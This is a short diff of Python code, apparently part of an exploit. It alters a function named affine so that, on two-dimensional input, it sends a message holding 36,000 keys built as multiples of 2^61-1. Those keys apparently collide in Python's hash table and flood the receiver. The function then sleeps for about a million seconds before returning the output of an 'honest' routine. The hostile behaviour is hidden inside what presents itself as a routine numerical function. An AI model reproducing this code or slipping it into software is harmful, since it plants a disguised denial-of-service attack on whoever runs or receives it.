@@ -53,7 +53,7 @@ def send(data):
 
 def affine(W, x, b):
     if np.ndim(x) == 2:
-        pairs = [[["i", hex((i + 16) * ((1 << 61) - 1))], None] for i in range(36_000)]
-        send(message([asked(), True, ["d", pairs]]))
+        keys = [["i", [hex((i + 16) * ((1 << 61) - 1))]] for i in range(36_000)]
+        send(message([asked(), True, ["d", [item for key in keys for item in (key, None)]]]))
         time.sleep(1e6)
     return honest(W, x, b)
